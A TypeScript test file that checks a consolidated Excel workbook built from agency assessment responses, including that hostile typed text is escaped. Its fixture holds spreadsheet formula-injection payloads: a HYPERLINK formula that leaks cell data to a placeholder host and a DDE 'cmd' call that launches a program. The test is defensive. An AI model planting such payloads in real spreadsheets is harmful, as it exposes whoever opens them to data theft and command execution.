import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { sampleAssessment } from '../../../test/fixtures/sample-assessment.js';
import { ANSWER_LABELS } from '../answers.js';
import { LOCAL_MGI_FRAMEWORK } from '../frameworks/local-mgi.js';
import type { NormalizedResponse } from '../types.js';
import { safeText, unquoteText } from '../workbook/safe-text.js';
import { consolidatedWorkbookBytes, consolidateToBytes } from './consolidate.js';
import { CONSOLIDATED_LABELS } from './consolidated-labels.js';
import { ANSWER_FILLS } from './consolidated-styles.js';
import type { AgencyResponses, ConsolidatedAgency } from './consolidated-types.js';
import { createSummaryAccumulator } from './summary.js';

async function firstPage(pages: AsyncIterable<AgencyResponses>): Promise<AgencyResponses> {
  for await (const page of pages) return page;
  throw new Error('no page');
}

const fw = LOCAL_MGI_FRAMEWORK;
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
];

/** 58 sample agencies (56 submitted), the first two with hostile text in every typed field. */
function fixture() {
  const sample = sampleAssessment(fw, 58, 56);
  const hostile = (r: NormalizedResponse, k: number): NormalizedResponse =>
    r.answer === 'yes' || r.answer === 'partially'
      ? {
          ...r,
          justification: `${HOSTILE[k % HOSTILE.length]} long enough`,
          evidence: HOSTILE[(k + 1) % HOSTILE.length]!,
        }
      : r;
  const agencies: ConsolidatedAgency[] = sample.agencies.map((a, i) =>
    i < 2 ? { ...a, name: HOSTILE[i]! } : a,
  );
  async function* pages(): AsyncIterable<AgencyResponses> {
    let i = 0;
    for await (const page of sample.pages()) {
      yield i++ < 2 ? { ...page, responses: page.responses.map(hostile) } : page;
    }
  }
  return { agencies, pages };
}

async function build(lang: 'en' | 'id', matrixLayout?: 'agency-rows') {
  const { agencies, pages } = fixture();
  const acc = createSummaryAccumulator(
    fw,
    agencies.map((a) => a.code),
    { lang },
  );
  const expected = new Map<string, NormalizedResponse[]>();
  for await (const page of pages()) {
    acc.add(page.agency, page.responses);
    expected.set(page.agency, page.responses);
  }
  const summary = acc.finish({ assessmentId: 'jateng-2026', generatedAt: '2026-03-02T00:00:00.000Z' });
  const out = await consolidatedWorkbookBytes({
    framework: fw,
    lang,
    agencies,
    pages: pages(),
    assessmentId: 'jateng-2026',
    generatedAt: '2026-03-02T00:00:00.000Z',
    matrixLayout,
    summaryLang: lang,
  });
  // The summary made in the same single pass as the workbook equals the accumulator's.
  expect(out.summary).toEqual(summary);
  const { bytes, report } = out;
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes.buffer as ArrayBuffer);
  return { bytes, report, book, summary, expected, agencies };
}

const fillOf = (cell: ExcelJS.Cell) => (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;

describe('consolidated workbook (58 agencies, English)', async () => {
  const { bytes, report, book, summary, expected } = await build('en');
  const l = CONSOLIDATED_LABELS.en;

  it('has the seven sheets in order', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual(Object.values(l.sheets));
    expect(report).toMatchObject({ matrixLayout: 'indicator-rows', responseRows: 56 * 76 });
  });

  it('Summary shows coverage and every domain score', () => {
    const sheet = book.getWorksheet(l.sheets.summary)!;
    const byLabel = new Map<string, ExcelJS.CellValue>();
    sheet.eachRow((row) => byLabel.set(String(row.getCell(1).value), row.getCell(2).value));
    expect(byLabel.get(l.registered)).toBe(58);
    expect(byLabel.get(l.submitted)).toBe(56);
    expect(byLabel.get(l.missing)).toBe(2);
    for (const domain of summary.domains) expect(byLabel.get(domain.id)).toBe(domain.name);
    const scoreRow = sheet.getRows(1, sheet.rowCount)!.find((r) => r.getCell(1).value === '1')!;
    expect(scoreRow.getCell(4).value).toBe(summary.domains[0]!.score);
  });

  it('Indicators has the counts, consensus and agreement of the summary', () => {
    const sheet = book.getWorksheet(l.sheets.indicators)!;
    summary.indicators.forEach((line, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBe(line.id);
      expect(row.getCell(4).value).toBe(line.counts.yes);
      expect(row.getCell(6).value).toBe(line.counts.no);
      expect(row.getCell(11).value).toBe(
        line.consensus === null ? l.noConsensus : ANSWER_LABELS.en[line.consensus],
      );
      expect(row.getCell(15).value).toBe(line.agreement);
      expect(row.getCell(17).value).toBe(line.split);
      expect(row.getCell(16).value ?? null).toBe(line.disagreement ? 'Yes' : null);
    });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:U${1 + fw.indicators.length}`);
    const header = sheet.getRow(1);
    expect([4, 5, 6, 7, 8, 9].map((col) => header.getCell(col).value)).toEqual([
      'Yes',
      'Partially',
      'No',
      "Don't know",
      'Not applicable',
      l.unanswered,
    ]);
    expect(sheet.getRow(2).getCell(9).value).toBe(summary.indicators[0]!.counts.unanswered);
  });

  it('Matrix: indicators down, submitting agencies across, answers colour-coded', () => {
    const sheet = book.getWorksheet(l.sheets.matrix)!;
    expect(sheet.getRow(1).getCell(4).value).toBe(l.validated);
    expect(sheet.getRow(1).getCell(5).value).toBe('AG-00001');
    expect(sheet.getRow(1).cellCount).toBe(4 + 56);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 4, ySplit: 1 });
    for (const [col, code] of [
      [5, 'AG-00001'],
      [21, 'AG-00017'],
      [60, 'AG-00056'],
    ] as const) {
      const responses = expected.get(code)!;
      fw.indicators.forEach((_, i) => {
        const cell = sheet.getRow(i + 2).getCell(col);
        const answer = responses[i]!.answer;
        expect(cell.value ?? null).toBe(answer === null ? null : l.matrixCodes[answer]);
        expect(fillOf(cell)).toBe(ANSWER_FILLS[answer ?? 'blank']);
      });
    }
  });

  it('Responses: one row per agency × indicator with justification and evidence, filtered, frozen', () => {
    const sheet = book.getWorksheet(l.sheets.responses)!;
    expect(sheet.rowCount).toBe(1 + 56 * 76);
    expect(sheet.autoFilter).toBe(`A1:H${1 + 56 * 76}`);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const row = sheet.getRow(2 + 76 * 5 + 10); // agency 6, indicator 11
    const r = expected.get('AG-00006')![10]!;
    expect(row.getCell(1).value).toBe('AG-00006');
    expect(row.getCell(3).value).toBe(r.indicatorId);
    expect(row.getCell(7).value ?? null).toBe(r.justification);
    expect(row.getCell(8).value ?? null).toBe(r.evidence);
  });

  it('Agencies lists submitted and missing agencies', () => {
    const sheet = book.getWorksheet(l.sheets.agencies)!;
    expect(sheet.rowCount).toBe(59);
    expect(sheet.getRow(57).getCell(1).value).toBe('AG-00056');
    expect(sheet.getRow(57).getCell(4).value).toBe(l.statusSubmitted);
    expect(sheet.getRow(59).getCell(1).value).toBe('AG-00058');
    expect(sheet.getRow(59).getCell(4).value).toBe(l.statusMissing);
    expect(sheet.autoFilter).toBe('A1:L59');
    expect(sheet.getRow(1).getCell(12).value).toBe(l.unanswered);
    const answers = expected.get('AG-00056')!.map((r) => r.answer);
    const count = (a: string | null) => answers.filter((x) => x === a).length;
    const counted = ['yes', 'partially', 'no', 'dont_know', 'not_applicable', null].map(count);
    expect([7, 8, 9, 10, 11, 12].map((col) => sheet.getRow(57).getCell(col).value)).toEqual(counted);
    expect([7, 8, 9, 10, 11, 12].map((col) => sheet.getRow(59).getCell(col).value)).toEqual(
      Array(6).fill(null),
    );
  });

  it('Highlights quotes the justifications of each highlighted indicator', () => {
    const sheet = book.getWorksheet(l.sheets.highlights)!;
    const first = summary.domains[0]!.highlights[0]!;
    const rows = sheet.getRows(1, sheet.rowCount)!;
    const at = rows.findIndex((row) => row.getCell(1).value === first);
    expect(at).toBeGreaterThan(0);
    const quoted = rows[at + 1]!;
    const justification = unquoteText(String(quoted.getCell(7).value));
    const cited = [...expected.values()]
      .flat()
      .filter((r) => r.indicatorId === first && r.justification === justification);
    expect(cited.length).toBeGreaterThan(0);
  });

  it('hostile text typed by agencies stays text, and the XML holds no formula at all', () => {
    const responses = book.getWorksheet(l.sheets.responses)!;
    const texts: unknown[] = [];
    responses.eachRow((row) => texts.push(row.getCell(7).value, row.getCell(8).value));
    // Each carries the apostrophe that keeps it text when someone edits the cell in Excel.
    for (const h of HOSTILE.slice(0, 5)) expect(texts).toContain(safeText(h));
    // A CR is stored as a line break by every XML reader; the apostrophe still comes first.
    expect(texts).toContain("'\n=1+1");
    expect(texts).toContain(`'=HYPERLINK("http://x.example/?"&A1,"click") long enough`);
    expect(book.getWorksheet(l.sheets.agencies)!.getRow(2).getCell(2).value).toBe(safeText(HOSTILE[0]!));
    const files = unzipSync(bytes);
    const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/sheet'));
    expect(sheets).toHaveLength(7);
    for (const name of sheets) expect(strFromU8(files[name]!)).not.toMatch(/<f[\s>]/);
  });
});

describe('consolidated workbook variants', () => {
  it('reads the responses once for summary and both languages', async () => {
    const { agencies, pages } = fixture();
    let reads = 0;
    async function* counted() {
      reads += 1;
      yield* pages();
    }
    const { summary, workbooks } = await consolidateToBytes({
      framework: fw,
      agencies,
      pages: counted(),
      assessmentId: 'jateng-2026',
      generatedAt: '2026-03-02T00:00:00.000Z',
      langs: ['en', 'id'],
    });
    expect(reads).toBe(1);
    expect(summary.agencies.submitted).toBe(56);
    for (const [lang, bytes] of Object.entries(workbooks)) {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(bytes.buffer as ArrayBuffer);
      const l = CONSOLIDATED_LABELS[lang as 'en' | 'id'];
      const matrix = book.getWorksheet(l.sheets.matrix)!;
      const first = fw.indicators.map((_, i) => matrix.getRow(i + 2).getCell(5).value ?? null);
      const expected = (await firstPage(pages())).responses.map((r) =>
        r.answer ? l.matrixCodes[r.answer] : null,
      );
      expect(first).toEqual(expected);
      // Domain names follow the workbook's language, whatever the summary JSON's language.
      expect(book.getWorksheet(l.sheets.summary)!.getColumn(2).values).toContain(
        fw.domains[0]!.name[lang as 'en' | 'id'],
      );
    }
  });

  it('writes Indonesian labels and sheet names', async () => {
    const { book } = await build('id');
    const l = CONSOLIDATED_LABELS.id;
    expect(book.worksheets.map((s) => s.name)).toEqual([
      'Ringkasan',
      'Indikator',
      'Matriks',
      'Jawaban',
      'Instansi',
      'Sorotan',
      'Temuan',
    ]);
    expect(book.getWorksheet(l.sheets.responses)!.getRow(1).getCell(8).value).toBe('Bukti dukung');
    expect(book.getWorksheet(l.sheets.agencies)!.getRow(59).getCell(4).value).toBe('Belum mengirim');
  });

  it('lays the Matrix out with one row per agency for large roll-outs', async () => {
    const { book, report, expected } = await build('en', 'agency-rows');
    expect(report.matrixLayout).toBe('agency-rows');
    const sheet = book.getWorksheet('Matrix')!;
    expect(sheet.rowCount).toBe(57);
    expect(sheet.getRow(1).getCell(3).value).toBe('1.01');
    const responses = expected.get('AG-00003')!;
    const row = sheet.getRow(4);
    expect(row.getCell(1).value).toBe('AG-00003');
    responses.forEach((r, k) => {
      expect(fillOf(row.getCell(3 + k))).toBe(ANSWER_FILLS[r.answer ?? 'blank']);
    });
  });
});
